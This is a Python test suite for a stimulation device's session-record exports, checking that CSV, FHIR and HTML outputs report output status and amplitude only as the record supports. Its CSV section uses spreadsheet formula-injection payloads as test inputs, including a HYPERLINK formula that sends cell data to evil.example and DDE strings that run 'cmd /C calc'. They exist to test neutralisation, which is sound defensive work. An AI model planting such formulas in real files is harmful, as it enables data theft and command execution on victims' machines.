"""Every export tells only what the record shows (records review).

- A unit whose OUTPUT_STARTED event was lost, but whose later reports (the ramp done,
  a delivered time) show its output was on, is never recorded as having delivered
  nothing: output on, its time not received.
- A host killed after the unit accepted START, before its output-on reached the
  journal: whether output went on is unknown, not "never".
- "Highest reached" is only what the unit reported (or the protocol's linear slew
  fixes between its reports); a level after an operator's change the unit did not
  report reaching is an estimate, and said to be one.
- A CSV cell of free text never starts a spreadsheet formula.
- A unit that restarts mid-session ends the record's output time line: no 49.7-day
  times from its restarted clock read across its 32-bit wrap.

Sessions run on the simulator on a manual clock, as in records_helpers.
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from estim.cli.records import describe
from estim.clock import ManualClock
from estim.device import connect
from estim.export import FORMATS
from estim.export.as_csv import cell
from estim.export.facts import highest_reached, output_went_on, reached_trace
from estim.journal import Journal
from estim.plan import ChannelPlan, SessionPlan
from estim.protocol import OutputStarted
from estim.record import EventRecord, SessionRecord, UnitRecord
from estim.session import Session
from estim.sim import SimulatedUnit, UnitConfig, serve

from .records_helpers import make_plan, run

PLAN = SessionPlan(
    dwell=60,
    ramp=5,
    channels=[ChannelPlan(channel=1, frequency_hz=2, pulse_width_us=250, amplitude_ma=12)],
)
UNIT = UnitRecord(
    model="estim-sim", serial_number="SIM-0001", firmware="sim-1.0", simulated=True, port="sim://"
)


class LosesOutputStarted(SimulatedUnit):
    """A unit whose OUTPUT_STARTED frame is lost on the link: it is numbered (so the
    host sees the gap, as it would) but never sent."""

    def _emit(self, cls: type[Any], t: int, **fields: Any) -> None:
        if cls is OutputStarted:
            self._event_seq = (self._event_seq + 1) & 0xFFFF
            return
        super()._emit(cls, t, **fields)


Steer = Callable[[Session, ManualClock, SimulatedUnit], None]


def session_on(
    path: Path, unit_class: type[SimulatedUnit], steer: Steer, plan: SessionPlan = PLAN
) -> tuple[SessionRecord, SimulatedUnit]:
    clock = ManualClock()
    unit = unit_class(UnitConfig(channels=2), clock=clock)
    with Journal(path) as journal, serve(unit) as url, connect(url) as device:
        session = device.start(plan, journal=journal)
        steer(session, clock, unit)
        record = session.wait(timeout=700)
        assert record == journal.get(record.id)
    return record, unit


def steps(*actions: tuple[float, Callable[[Session], Any]]) -> Steer:
    def steer(session: Session, clock: ManualClock, unit: SimulatedUnit) -> None:
        for seconds, act in actions:
            clock.advance(seconds)
            act(session)

    return steer


def csv_row(record: SessionRecord) -> dict[str, str]:
    return next(csv.DictReader(io.StringIO(FORMATS["csv"].render([record]).decode())))


def procedure(record: SessionRecord) -> dict[str, Any]:
    bundle = json.loads(FORMATS["fhir"].render([record]))
    return next(
        e["resource"] for e in bundle["entry"] if e["resource"]["resourceType"] == "Procedure"
    )


def highest_component(record: SessionRecord) -> dict[str, Any] | None:
    bundle = json.loads(FORMATS["fhir"].render([record]))
    found = [
        c
        for e in bundle["entry"]
        for c in e["resource"].get("component", [])
        if c["code"]["coding"][0]["code"] == "highest-amplitude-reached"
    ]
    assert len(found) <= 1
    return found[0] if found else None


def html_fact(record: SessionRecord, name: str) -> str:
    page = FORMATS["html"].render([record]).decode()
    match = re.search(rf"<th>{name}</th><td>(.*?)</td>", page)
    assert match is not None
    return match.group(1)


def html_highest(record: SessionRecord) -> str:
    page = FORMATS["html"].render([record]).decode()
    rows = re.findall(
        r'<tr><td class="num">1</td><td class="num">[^<]*</td><td class="num">(.*?)</td>', page
    )
    assert len(rows) == 1
    return rows[0]


def output_line(record: SessionRecord) -> str:
    (line,) = [x for x in describe(record) if x.startswith("Output")]
    return line


DENIALS = ("never", "no current", "nothing was delivered", "not-done")


def assert_never_denied(record: SessionRecord) -> None:
    page = FORMATS["html"].render([record]).decode()
    for words in DENIALS[:3]:
        assert words not in html_fact(record, "Output on"), words
        assert words not in output_line(record), words
    assert "No output was delivered" not in page
    assert procedure(record)["status"] != "not-done"
    assert csv_row(record)["output_went_on"] != "no"


def built(
    events: list[tuple[str, dict[str, Any], int | None]],
    times: list[float] | None = None,
    **fields: Any,
) -> SessionRecord:
    """A record made of ``events`` (kind, data, unit_ms), at host ``times`` (default:
    a second apart)."""
    times = times or [float(n) for n in range(len(events))]
    made = [
        EventRecord(
            n=n,
            utc=f"2026-11-22T09:00:{times[n]:06.3f}Z",
            t=times[n],
            unit_ms=ms,
            kind=k,
            data=d,
        )
        for n, (k, d, ms) in enumerate(events)
    ]
    values: dict[str, Any] = {
        "session_id": "0000abcd",
        "unit": UNIT,
        "plan": PLAN,
        "created_utc": "2026-11-22T09:00:00.000Z",
        "events": made,
        "outcome": "link_lost",
        "stop_reason": "the unit has been silent for 500 ms",
        "ended_by": None,
        "delivered_ms": None,
    }
    values.update(fields)
    return SessionRecord.build(**values)


START = [("start_requested", {}, None), ("start_accepted", {"dwell_s": 60.0, "ramp_s": 5.0}, None)]
ENDED = ("ended", {"outcome": "link_lost", "reason": "silent", "delivered_ms": None}, None)


# --- 1. output on, though its event was lost ------------------------------------------------


def test_a_lost_output_started_still_records_output_on(tmp_path: Path) -> None:
    record, unit = session_on(
        tmp_path / "estim.db", LosesOutputStarted, steps((20, lambda s: s.stop()))
    )
    assert unit.events("output_on")  # the unit did deliver
    assert "output_started" not in [e.kind for e in record.events]
    assert record.delivered_s == pytest.approx(20.0, abs=0.01)
    assert output_went_on(record) == "yes"
    assert_never_denied(record)
    assert "time not received" in html_fact(record, "Output on")
    assert "time not received" in output_line(record)
    assert procedure(record)["status"] == "stopped"
    assert "start" not in procedure(record).get("performedPeriod", {})  # not invented
    row = csv_row(record)
    assert (row["output_went_on"], row["output_on_utc"]) == ("yes", "")
    assert row["delivered_s"] == "20"
    # the ramp done is the unit's own report of the planned level
    assert row["ch1_peak_reached_ma"] == "12"
    assert highest_reached(record, 1) == 12.0


EVIDENCE: dict[str, tuple[list[tuple[str, dict[str, Any], int | None]], int | None]] = {
    "ramp done": ([("ramp_done", {}, 6000)], None),
    "amplitude reached": ([("amplitude_reached", {"channel": 1, "ma": 10.0}, 4000)], None),
    "ramp down": ([("ramp_down", {"remaining_ms": 5000}, 56000)], None),
    "stopped after 0.5 s": (
        [("unit_stopped", {"reason": "HOST_ERROR", "delivered_ms": 500}, 1500)],
        500,
    ),
    "completed": ([("unit_completed", {"delivered_ms": 60000}, 61000)], 60000),
    "a delivered time only": ([], 300),
}


@pytest.mark.parametrize("evidence", sorted(EVIDENCE))
def test_any_report_of_output_means_output_went_on(evidence: str) -> None:
    """The lossy-link sessions of the review (seeds 26 and 29): only a later report
    shows output was on; every format says on, time not received."""
    events, delivered = EVIDENCE[evidence]
    record = built([*START, ("unit_silent", {}, None), *events, ENDED], delivered_ms=delivered)
    assert output_went_on(record) == "yes"
    assert_never_denied(record)
    assert "time not received" in html_fact(record, "Output on")
    assert "time not received" in output_line(record)
    assert procedure(record)["status"] == "stopped"


def test_a_start_accepted_and_nothing_more_is_unknown_not_never() -> None:
    record = built([*START, ("unit_silent", {}, None), ENDED])
    assert output_went_on(record) == "unknown"
    assert_never_denied(record)
    assert procedure(record)["status"] == "unknown"
    assert "unknown" in html_fact(record, "Output on")
    assert "unknown" in output_line(record)
    assert csv_row(record)["output_went_on"] == "unknown"


def test_a_host_killed_after_the_unit_accepted_start(tmp_path: Path) -> None:
    """interrupted_before_on.py: START ACKed, the host dies before output-on is
    journaled. Nobody knows whether output went on; no format says it never did."""
    db = tmp_path / "estim.db"
    crashed = Journal(db)
    sid = crashed.begin(
        0x42,
        plan=PLAN.model_dump(mode="json"),
        unit={"model": "m", "serial_number": "s", "firmware": "f", "simulated": False},
        port="/dev/ttyUSB0",
        planned_ms=60000,
    )
    crashed.append(sid, "start_accepted", {"dwell_s": 60.0, "ramp_s": 5.0}, t=0.01)
    os.close(crashed._locks.pop(sid))  # kill -9: the OS drops the lock
    crashed._db.close()
    with Journal(db) as journal:
        record = journal.get(sid)
    assert record.outcome == "interrupted"
    assert output_went_on(record) == "unknown"
    assert_never_denied(record)
    assert procedure(record)["status"] == "unknown"
    assert "unknown" in html_fact(record, "Output on")
    assert "unknown" in output_line(record)


def test_a_refused_start_is_still_never() -> None:
    record = built(
        [("start_requested", {}, None), ("start_refused", {"error": "open electrode"}, None)],
        outcome="refused",
        stop_reason="open electrode",
    )
    assert output_went_on(record) == "no"
    assert procedure(record)["status"] == "not-done"
    assert html_fact(record, "Output on").startswith("never")
    assert csv_row(record)["output_went_on"] == "no"


# --- 2. the highest amplitude reached is what the unit reported ------------------------------


def test_a_raise_in_the_ramp_then_a_stop_is_not_reported_as_reached(tmp_path: Path) -> None:
    """Raised to 20 mA 2 s into a 5 s ramp to 12 mA, stopped at 5.5 s: the unit's
    slew (2.4 mA/s) reached about 13.2 mA, never 20, and it reported no level."""
    record, unit = session_on(
        tmp_path / "estim.db",
        SimulatedUnit,
        steps((2, lambda s: s.set_amplitude(1, 20)), (3.5, lambda s: s.stop())),
    )
    truth = max(e.data["ua"] for e in unit.log if e.kind == "level") / 1000
    assert truth < 13.3
    trace = reached_trace(record, 1)
    assert max(ma for _, ma in trace) == pytest.approx(13.2, abs=0.01)  # the slew, not 20
    assert trace[-2] == (pytest.approx(5.5, abs=0.01), pytest.approx(13.2, abs=0.01))
    assert highest_reached(record, 1) is None  # not reported: no figure claimed
    assert csv_row(record)["ch1_peak_reached_ma"] == ""
    component = highest_component(record)
    assert component is not None
    assert "valueQuantity" not in component
    assert "estimate" in component["dataAbsentReason"]["text"]
    assert "20" not in html_highest(record)
    assert "about 13.2 mA" in html_highest(record)
    assert "estimate" in html_highest(record)


def test_a_raise_in_the_hold_is_drawn_slewing_not_flat(tmp_path: Path) -> None:
    record, _ = session_on(
        tmp_path / "estim.db",
        SimulatedUnit,
        steps((20, lambda s: s.set_amplitude(1, 30)), (0.5, lambda s: s.stop())),
    )
    trace = reached_trace(record, 1)
    assert trace[-2] == (pytest.approx(20.5, abs=0.01), pytest.approx(13.2, abs=0.01))
    assert highest_reached(record, 1) is None  # 12 reported, more by an unreported slew
    assert csv_row(record)["ch1_peak_reached_ma"] == ""
    assert "about 13.2 mA" in html_highest(record)
    assert "12 mA" in html_highest(record)  # what the unit did report


def test_a_raise_before_the_end_ramp_is_reported_by_the_ramp_down(tmp_path: Path) -> None:
    """Raised to 30 mA at 54 s: the end ramp caught the slew at 13.2 mA, and the
    unit's RAMP_DOWN_STARTED (5.5 s left at 2.4 mA/s) says so."""
    record, unit = session_on(
        tmp_path / "estim.db", SimulatedUnit, steps((54, lambda s: s.set_amplitude(1, 30)))
    )
    assert record.outcome == "completed"
    truth = max(e.data["ua"] for e in unit.log if e.kind == "level") / 1000
    assert highest_reached(record, 1) == pytest.approx(truth, abs=0.001) == 13.2
    assert csv_row(record)["ch1_peak_reached_ma"] == "13.2"
    component = highest_component(record)
    assert component is not None
    assert component["valueQuantity"]["value"] == 13.2
    assert html_highest(record) == "13.2 mA"
    trace = reached_trace(record, 1)
    assert max(ma for _, ma in trace) == pytest.approx(13.2, abs=0.001)
    assert (54.0, 12.0) in [(round(t, 3), round(ma, 3)) for t, ma in trace]  # flat until the change


def test_a_lowering_in_the_hold_slews_down(tmp_path: Path) -> None:
    record, _ = session_on(
        tmp_path / "estim.db",
        SimulatedUnit,
        steps((20, lambda s: s.set_amplitude(1, 2)), (0.2, lambda s: s.stop())),
    )
    trace = reached_trace(record, 1)
    assert trace[-2] == (pytest.approx(20.2, abs=0.01), pytest.approx(11.52, abs=0.01))
    assert highest_reached(record, 1) == 12.0  # reported by the ramp done; nothing higher


# --- 3. CSV cells never start a formula ------------------------------------------------------

EVIL = {
    "patient_ref": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "clinician": "+cmd|' /C calc'!A0",
    "site": '-2+3+cmd|"/c calc"!A1',
    "condition": '@SUM(1+1)*cmd|"/c calc"!A1',
    "notes": "\tnotes",
}


def test_csv_free_text_is_neutralised(tmp_path: Path) -> None:
    record = run(tmp_path / "estim.db", make_plan(**EVIL))
    row = csv_row(record)
    for field, value in EVIL.items():
        assert row[field] == "'" + value
    assert (row["planned_s"], row["delivered_s"], row["ch1_planned_ma"]) == ("60", "60", "12")
    cr = record.model_copy(
        update={"plan": record.plan.model_copy(update={"notes": "\rhello", "site": "a=b"})}
    )
    assert (csv_row(cr)["notes"], csv_row(cr)["site"]) == ("'\rhello", "a=b")


def test_events_csv_free_text_is_neutralised() -> None:
    record = built(
        [
            *START,
            ("output_started", {"dwell_ms": 60000, "channel_mask": 1}, 1000),
            ("amplitude_set", {"channel": 1, "ma": 12.5}, None),
            ("stop_requested", {"reason": "OPERATOR", "detail": "=1+1"}, None),
            ("unit_stopped", {"reason": "@x", "delivered_ms": 2000}, 3000),
            ("custom", {"note": "-oops"}, None),
            ("ended", {"outcome": "stopped", "reason": "+cmd", "delivered_ms": 2000}, None),
        ],
        outcome="stopped",
        delivered_ms=2000,
    )
    rows = list(csv.DictReader(io.StringIO(FORMATS["events-csv"].render([record]).decode())))
    by_kind = {r["kind"]: r for r in rows}
    assert by_kind["stop_requested"]["detail"] == "'=1+1"
    assert by_kind["unit_stopped"]["reason"] == "'@x"
    assert by_kind["ended"]["reason"] == "'+cmd"
    assert by_kind["custom"]["other"] == "note=-oops"  # (starts with a letter: left alone)
    assert by_kind["amplitude_set"]["ma"] == "12.5"
    assert by_kind["unit_stopped"]["delivered_ms"] == "2000"


def test_numbers_stay_numbers() -> None:
    assert (cell(-2.5), cell(-3), cell("-3")) == ("-2.5", -3, "'-3")


# --- 4. a unit restart ends the output time line -----------------------------------------


def test_a_unit_restart_ends_the_output_time_line(tmp_path: Path) -> None:
    """reset_output_s.py: the unit resets 30 s into output; its clock restarts at 0."""

    def reset(session: Session, clock: ManualClock, unit: SimulatedUnit) -> None:
        clock.advance(30)
        unit.reset()

    clock = ManualClock()
    unit = SimulatedUnit(UnitConfig(), clock=clock)
    with Journal(tmp_path / "estim.db") as journal, serve(unit) as url, connect(url) as device:
        clock.advance(1)  # the unit has been on for a second, as any unit has
        session = device.start(PLAN, journal=journal)
        reset(session, clock, unit)
        record = session.wait(timeout=100)
        assert record == journal.get(record.id)
    restart = next(e for e in record.events if e.kind == "unit_restarted")
    assert restart.output_s is None
    assert record.events[-1].output_s is None  # nothing after it has an output time
    times = [e.output_s for e in record.events if e.output_s is not None]
    assert times == sorted(times)
    assert max(times) <= 31
    rows = list(csv.DictReader(io.StringIO(FORMATS["events-csv"].render([record]).decode())))
    assert all(r["output_s"] == "" or float(r["output_s"]) <= 31 for r in rows)
    page = FORMATS["html"].render([record]).decode()
    ticks = [float(v) for v in re.findall(r'text-anchor="middle">([0-9.e+]+)</text>', page)]
    assert ticks
    assert max(ticks) <= 60
    trace = reached_trace(record, 1)
    assert trace[-1][1] == 0.0
    assert trace[-1][0] <= 31
    assert highest_reached(record, 1) == 12.0


def test_a_unit_clock_that_jumps_ends_the_output_time_line() -> None:
    """A unit event whose clock reads far later than the host's time since output on
    (a restart whose BOOTED was lost) is not placed 49.7 days into the session."""
    record = built(
        [
            *START,
            ("output_started", {"dwell_ms": 60000, "channel_mask": 1}, 5000),
            ("ramp_done", {}, 10000),
            ("events_missed", {"expected": 3, "received": 5}, None),
            ("fault", {"fault": 5, "name": "INTERNAL", "channel": 0}, 40),
            ENDED,
        ],
        times=[0.0, 0.5, 0.55, 5.56, 30.0, 30.1, 31.0],
    )
    assert [e.output_s for e in record.events[2:]] == [0.0, 5.0, 29.45, None, None]
